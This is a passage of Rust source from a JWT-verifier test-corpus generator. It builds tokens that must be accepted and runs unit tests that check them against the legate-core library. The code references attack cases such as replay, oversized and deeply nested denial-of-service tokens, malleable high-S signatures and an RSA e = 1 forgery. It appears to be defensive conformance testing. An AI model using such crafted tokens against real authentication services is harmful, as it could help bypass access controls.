    g.add(C, "replay_reusable_issuer/2_second_use", t, Expect::Accept);
    let claims = unset(claims, "jti");
    g.add(
        C,
        "replay_reusable_issuer/3_without_jti",
        token(&hdr("ES256", "es256-r"), &claims, r_signer),
        Expect::Accept,
    );
}

fn accept_cases(g: &mut Gen<'_>) {
    use AttackClass::MustAccept as C;
    let k = g.k;
    let now = g.ctx.now;

    for (name, alg, kid, signer) in [
        (
            "accept_rs256",
            "RS256",
            "rs256",
            Signer::Rs(&k.rsa, &digest::SHA256),
        ),
        (
            "accept_ps256",
            "PS256",
            "ps256",
            Signer::Ps(&k.rsa, &digest::SHA256),
        ),
        ("accept_es256", "ES256", "es256", g.es256_signer()),
        (
            "accept_es384",
            "ES384",
            "es384",
            Signer::Ec(&k.es384, &digest::SHA384),
        ),
        ("accept_eddsa", "EdDSA", "eddsa", Signer::Ed(&k.eddsa)),
        (
            "accept_rotated_kid",
            "ES256",
            ROTATED_KID,
            Signer::Ec(&k.a_rotated, &digest::SHA256),
        ),
    ] {
        let claims = g.a(name);
        g.add(
            C,
            name,
            token(&hdr(alg, kid), &claims, signer),
            Expect::Accept,
        );
    }
    let t = g.es256(&g.a("accept_es256_high_s"));
    let sig = signature(&t);
    let mut high = sig[..32].to_vec();
    high.extend(Curve::p256().negate_scalar(&sig[32..]));
    g.add(
        C,
        "accept_es256_high_s",
        with_signature(&t, &high),
        Expect::Accept,
    );

    let claims = g.a("accept_no_typ");
    g.add(
        C,
        "accept_no_typ",
        token(
            &json!({"alg": "ES256", "kid": "es256"}),
            &claims,
            g.es256_signer(),
        ),
        Expect::Accept,
    );
    let claims = g.a("accept_typ_application_jwt");
    g.add(
        C,
        "accept_typ_application_jwt",
        token(
            &json!({"alg": "ES256", "kid": "es256", "typ": "application/jwt"}),
            &claims,
            g.es256_signer(),
        ),
        Expect::Accept,
    );
    let claims = g.a("accept_unknown_header_parameter");
    g.add(
        C,
        "accept_unknown_header_parameter",
        token(
            &json!({"alg": "ES256", "kid": "es256", "typ": "JWT", "x-vendor-trace": "abc"}),
            &claims,
            g.es256_signer(),
        ),
        Expect::Accept,
    );
    let claims = set(
        g.a("accept_aud_array_with_ours"),
        "aud",
        json!(["https://other.example", AUDIENCE]),
    );
    g.add(
        C,
        "accept_aud_array_with_ours",
        g.es256(&claims),
        Expect::Accept,
    );

    let l = LEEWAY_SECS;
    let cap = MAX_LIFETIME_SECS;
    for (name, iat, nbf, exp) in [
        (
            "accept_exp_inside_leeway",
            Some(now - 300),
            Some(now - 300),
            now - l + 1,
        ),
        (
            "accept_nbf_inside_leeway",
            Some(now - 5),
            Some(now + l),
            now + 300,
        ),
        ("accept_iat_inside_leeway", Some(now + l), None, now + 300),
        (
            "accept_lifetime_at_cap",
            Some(now - 100),
            Some(now - 100),
            now - 100 + cap,
        ),
        ("accept_without_nbf", Some(now - 5), None, now + 300),
        ("accept_without_iat", None, Some(now - 5), now + 300),
        ("accept_without_iat_or_nbf", None, None, now + 300),
    ] {
        let claims = with_times(g.a(name), iat, nbf, exp);
        g.add(C, name, g.es256(&claims), Expect::Accept);
    }
    let t = g.sized("accept_token_just_under_size_cap", MAX_TOKEN_BYTES, false);
    g.add(C, "accept_token_just_under_size_cap", t, Expect::Accept);

    let claims = g.claims_of(ISSUER_B, "7", "accept_issuer_b_shared_kid");
    g.add(
        C,
        "accept_issuer_b_shared_kid",
        token(
            &hdr("ES256", "shared-kid"),
            &claims,
            Signer::Ec(&k.b_shared, &digest::SHA256),
        ),
        Expect::Accept,
    );
    // `\/` is an escaped `/` (RFC 8259 §7): the same issuer string.
    let claims = g.a("accept_escaped_slashes_in_iss");
    let text = serde_json::to_string(&claims).expect("json");
    let escaped = text.replacen(
        &format!("\"iss\":\"{ISSUER_A}\""),
        &format!("\"iss\":\"{}\"", ISSUER_A.replace('/', "\\/")),
        1,
    );
    assert_ne!(text, escaped);
    g.add(
        C,
        "accept_escaped_slashes_in_iss",
        compact(
            &to_json(&hdr("ES256", "es256")),
            escaped.as_bytes(),
            g.es256_signer(),
        ),
        Expect::Accept,
    );
    let claims = g.a("accept_json_insignificant_whitespace");
    let pretty = serde_json::to_vec_pretty(&claims).expect("json");
    g.add(
        C,
        "accept_json_insignificant_whitespace",
        compact(
            b"{ \"alg\": \"ES256\",\n  \"kid\": \"es256\" }\n",
            &pretty,
            g.es256_signer(),
        ),
        Expect::Accept,
    );
}

#[cfg(test)]
mod tests {
    use std::collections::{BTreeSet, HashMap};

    use aws_lc_rs::signature::{self as sig, RsaKeyPair, UnparsedPublicKey};

    use super::*;
    use legate_core::jwk::KeySet;
    use legate_core::jws::{ParseError, UnverifiedJwt};
    use legate_core::verify::{VerifyError, verify};

    fn ctx() -> CorpusContext {
        CorpusContext::new("http://127.0.0.1:9")
    }

    fn ecdsa_verifies(
        key: &EcKey,
        alg: &'static sig::EcdsaVerificationAlgorithm,
        msg: &[u8],
        s: &[u8],
    ) -> bool {
        UnparsedPublicKey::new(alg, key.point())
            .verify(msg, s)
            .is_ok()
    }

    #[test]
    fn ecdsa_signatures_verify_with_aws_lc_rs() {
        let k = keys();
        let msg = b"header.payload";
        let h256 = digest::digest(&digest::SHA256, msg);
        let h384 = digest::digest(&digest::SHA384, msg);
        assert!(ecdsa_verifies(
            &k.es256,
            &sig::ECDSA_P256_SHA256_FIXED,
            msg,
            &k.es256.sign_hash(h256.as_ref())
        ));
        assert!(ecdsa_verifies(
            &k.es384,
            &sig::ECDSA_P384_SHA384_FIXED,
            msg,
            &k.es384.sign_hash(h384.as_ref())
        ));
        assert!(ecdsa_verifies(
            &k.k256,
            &sig::ECDSA_P256K1_SHA256_FIXED,
            msg,
            &k.k256.sign_hash(h256.as_ref())
        ));
        // The high-S twin verifies too; a flipped bit does not.
        let s = k.es256.sign_hash(h256.as_ref());
        let mut high = s[..32].to_vec();
        high.extend(Curve::p256().negate_scalar(&s[32..]));
        assert!(ecdsa_verifies(
            &k.es256,
            &sig::ECDSA_P256_SHA256_FIXED,
            msg,
            &high
        ));
        let mut bad = s.clone();
        bad[5] ^= 1;
        assert!(!ecdsa_verifies(
            &k.es256,
            &sig::ECDSA_P256_SHA256_FIXED,
            msg,
            &bad
        ));
        // Deterministic.
        assert_eq!(s, k.es256.sign_hash(h256.as_ref()));
    }

    #[test]
    fn rsa_signatures_match_or_verify_with_aws_lc_rs() {
        let k = keys();
        let msg = b"header.payload";
        // PKCS#1 v1.5 is deterministic: byte-for-byte equal to aws-lc-rs.
        let der = STANDARD
            .decode(RSA_2048_PKCS8.split_whitespace().collect::<String>())
            .unwrap();
        let pair = RsaKeyPair::from_pkcs8(&der).unwrap();
        let mut theirs = vec![0u8; pair.public_modulus_len()];
        pair.sign(
            &sig::RSA_PKCS1_SHA256,
            &aws_lc_rs::rand::SystemRandom::new(),
            msg,
            &mut theirs,
        )
        .unwrap();
        assert_eq!(k.rsa.sign_pkcs1_local(&digest::SHA256, msg), theirs);
        assert_eq!(k.rsa.sign_pkcs1(&digest::SHA256, msg), theirs);
        assert!(k.rsa1024.aws.is_none(), "aws-lc-rs refuses 1024-bit keys");
        let verify = |key: &RsaKey, params, s: &[u8]| {
            sig::RsaPublicKeyComponents {
                n: key.n.as_slice(),
                e: key.e.as_slice(),
            }
            .verify(params, msg, s)
            .is_ok()
        };
        assert!(verify(
            &k.rsa,
            &sig::RSA_PKCS1_2048_8192_SHA512,
            &k.rsa.sign_pkcs1(&digest::SHA512, msg)
        ));
        assert!(verify(
            &k.rsa,
            &sig::RSA_PSS_2048_8192_SHA256,
            &k.rsa.sign_pss(&digest::SHA256, msg)
        ));
        // The 1024-bit key really signs (checked with aws-lc-rs's legacy verifier).
        assert_eq!(k.rsa1024.n.len(), 128);
        assert!(verify(
            &k.rsa1024,
            &sig::RSA_PKCS1_1024_8192_SHA256_FOR_LEGACY_USE_ONLY,
            &k.rsa1024.sign_pkcs1(&digest::SHA256, msg)
        ));
        // The e = 1 forgery is the encoded message itself: s^1 mod n = EM.
        let em = k.rsa.pkcs1_encoding(&digest::SHA256, msg);
        assert_eq!(em.len(), 256);
        assert_eq!(&em[..2], &[0, 1]);
    }

    #[test]
    fn same_seed_same_corpus_other_seed_other_tokens() {
        let a = generate(7, &ctx());
        assert_eq!(a, generate(7, &ctx()));
        let b = generate(8, &ctx());
        assert_eq!(a.len(), b.len());
        let differing = a.iter().zip(&b).filter(|(x, y)| x.token != y.token).count();
        assert!(
            differing * 10 > a.len() * 9,
            "{differing} of {} differ",
            a.len()
        );
        for (x, y) in a.iter().zip(&b) {
            assert_eq!((&x.name, x.class, x.expect), (&y.name, y.class, y.expect));
        }
    }

    #[test]
    fn names_are_unique_identifiers_and_sizes_are_as_named() {
        let cases = generate(1, &ctx());
        let mut seen = BTreeSet::new();
        for c in &cases {
            assert!(seen.insert(c.name.clone()), "duplicate {}", c.name);
            assert!(
                c.group()
                    .bytes()
                    .all(|b| b.is_ascii_lowercase() || b.is_ascii_digit() || b == b'_')
                    && c.group().as_bytes()[0].is_ascii_lowercase(),
                "{} is not a test name",
                c.name
            );
        }
        let len = |name: &str| cases.iter().find(|c| c.name == name).unwrap().token.len();
        assert!(
            (MAX_TOKEN_BYTES - 3..=MAX_TOKEN_BYTES)
                .contains(&len("accept_token_just_under_size_cap"))
        );
        assert!(
            (MAX_TOKEN_BYTES + 1..=MAX_TOKEN_BYTES + 3)
                .contains(&len("dos_token_just_over_size_cap"))
        );
        assert!(len("dos_token_64kib") >= 64 * 1024);
        assert!(len("dos_thousands_of_segments") <= MAX_TOKEN_BYTES);
        assert!(len("dos_deep_json_payload") <= MAX_TOKEN_BYTES);
        assert!(len("dos_deep_json_header") <= MAX_TOKEN_BYTES);
        assert!(len("kid_4kib") <= MAX_TOKEN_BYTES);
    }

    #[test]
    fn reason_codes_are_legate_core_codes() {
        use reason::*;
        let p = |e: ParseError| e.reason_code();
        assert_eq!(TOKEN_TOO_LARGE, p(ParseError::TooLarge(0)));
        assert_eq!(NOT_COMPACT_JWS, p(ParseError::NotCompactJws));
        assert_eq!(MISSING_ALG, p(ParseError::MissingAlg));
        assert_eq!(
            UNSUPPORTED_ALG,
            p(ParseError::UnsupportedAlg(String::new()))
        );
        assert_eq!(MISSING_KID, p(ParseError::MissingKid));
        assert_eq!(FORBIDDEN_HEADER, p(ParseError::ForbiddenHeader("jku")));
        assert_eq!(UNEXPECTED_TYP, p(ParseError::UnexpectedType(String::new())));
        assert_eq!(MISSING_ISS, p(ParseError::MissingIssuer));
        assert_eq!(
            BAD_JSON,
            p(ParseError::Json {
                part: "header",
                source: legate_core::json::JsonError::NotAnObject
            })
        );
        let v = |e: VerifyError| e.reason_code();
        assert_eq!(ALG_NOT_ALLOWED, v(VerifyError::AlgNotAllowed(Alg::Es256)));
        assert_eq!(UNKNOWN_KID, v(VerifyError::UnknownKid(String::new())));
        assert_eq!(AMBIGUOUS_KID, v(VerifyError::AmbiguousKid(String::new())));
        assert_eq!(
            ALG_KEY_MISMATCH,
            v(VerifyError::AlgKeyMismatch {
                header: Alg::Es256,
                key: Alg::Es384
            })
        );
        assert_eq!(BAD_SIGNATURE, v(VerifyError::BadSignature));
        assert_eq!(AUDIENCE_MISMATCH, v(VerifyError::AudienceMismatch));
        assert_eq!(INVALID_CLAIM, v(VerifyError::InvalidClaim("exp")));
        assert_eq!(MISSING_CLAIM, v(VerifyError::MissingClaim(String::new())));
        assert_eq!(EXPIRED, v(VerifyError::Expired { exp: 0 }));
        assert_eq!(NOT_YET_VALID, v(VerifyError::NotYetValid { nbf: 0 }));
        assert_eq!(ISSUED_IN_FUTURE, v(VerifyError::IssuedInFuture { iat: 0 }));
        assert_eq!(EXP_BEFORE_IAT, v(VerifyError::ExpiresBeforeIssued));
        assert_eq!(
            LIFETIME_TOO_LONG,
            v(VerifyError::LifetimeTooLong {
                lifetime: 0,
                cap: 0
            })
        );
        let e = legate_core::b64::decode("=").unwrap_err();
        assert_eq!(
            BAD_ENCODING,
            p(ParseError::Encoding {
                part: "header",
                source: e
            })
        );
    }

    /// The verdict legate-core alone reaches (parse, route by exact `iss`, verify), for
    /// every case: the server adds only the body limit, replay and policy.
    #[test]
    fn every_expectation_agrees_with_legate_core() {
        use reason::*;
        let ctx = ctx();
        let trusts: HashMap<&str, (KeySet, VerifyRules)> = trusts()
            .iter()
            .map(|t| {
                let (set, _) = KeySet::from_jwks(&to_json(&t.jwks)).unwrap();
                (t.issuer, (set, t.rules()))
            })
            .collect();
        // The JWKS holds exactly the usable keys the corpus assumes.
        let a = &trusts[ISSUER_A].0;
        assert_eq!(
            a.kids(),
            vec![
                ROTATED_KID,
                "eddsa",
                "es256",
                "es384",
                "ps256",
                "rs256",
                "shared-kid"
            ]
        );
        let mut failures = Vec::new();
        for case in generate(3, &ctx) {
            let core = match UnverifiedJwt::parse(&case.token) {
                Err(e) => Err(e.reason_code()),
                Ok(jwt) => match trusts.get(jwt.unverified_issuer()) {
                    None => Err(UNTRUSTED_ISSUER),
                    Some((keys, rules)) => verify(jwt, keys, rules, ctx.now)
                        .map(|_| ())
                        .map_err(|e| e.reason_code()),
                },
            };
            let ok = match (case.expect, core) {
                (Expect::Accept, Ok(())) => true,
                (Expect::Reject { reason }, Ok(())) => {
                    [REPLAYED, NO_PERMIT, FORBIDDEN, REQUEST_BUILD_FAILED].contains(&reason)
                }
                (
                    Expect::Reject {
                        reason: BAD_REQUEST,
                    },
                    Err(code),
                ) => code == TOKEN_TOO_LARGE,
                (Expect::Reject { reason }, Err(code)) => reason == code,
                (Expect::Accept, Err(_)) => false,
            };
            if !ok {
                failures.push(format!(
                    "{}: expected {:?}, legate-core says {core:?}",
                    case.name, case.expect
                ));
            }
        }
        assert!(failures.is_empty(), "{failures:#?}");
    }
}
